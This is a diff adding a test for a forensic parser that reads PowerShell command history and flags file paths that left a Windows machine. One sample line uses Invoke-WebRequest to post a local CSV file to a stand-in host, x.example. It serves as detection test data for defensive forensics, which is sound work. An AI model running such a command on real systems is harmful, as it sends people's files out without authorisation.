@@ -24,6 +24,7 @@ from forensics.artifacts.windows import (
     custom_destinations,
     dest_list,
     lnk,
+    powershell_history,
     recycle_i,
     recycle_info,
     setupapi,
@@ -349,3 +350,26 @@ def test_jump_lists_through_their_container(shared):
         assert links == entries
     data = unpacked(folder / "5afe4de1b92fc382.customDestinations-ms.xz")
     assert len(custom_destinations.parse(Content(data)).traces) == 9
+
+
+@pytest.mark.parametrize(
+    ("line", "told"),
+    [
+        ("Copy-Item C:\\work\\list.csv F:\\", [("C:\\work\\list.csv", True)]),
+        ('Copy-Item -Path "C:\\my work\\a.csv" -Destination E:', [("C:\\my work\\a.csv", True)]),
+        ("robocopy C:\\work \\\\nas\\x /E", [("C:\\work", True)]),
+        ("copy C:\\a.csv C:\\b.csv", [("C:\\a.csv", False)]),
+        ("Get-Content C:\\a.csv | more", [("C:\\a.csv", False)]),
+        ("Invoke-WebRequest https://x.example/ -Method Post -InFile C:\\a.csv", [("C:\\a.csv", True)]),
+        ("dir F:\\", []), ("Copy-Item a.csv b.csv", []),
+    ],
+)  # fmt: skip
+def test_commands_typed_into_powershell(line, told):
+    path = (
+        "/Users/kei/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"
+    )
+    parsed = powershell_history.parse(Content(f"cd\r\n{line}\r\n".encode(), path))
+    found = [(row["path"], "leaves=yes" in (row["detail"] or "")) for row in parsed.traces]
+    assert found == told
+    assert {row["account"] for row in parsed.traces} <= {"kei"}
+    assert powershell_history.ARTIFACT.claims(path, b"")
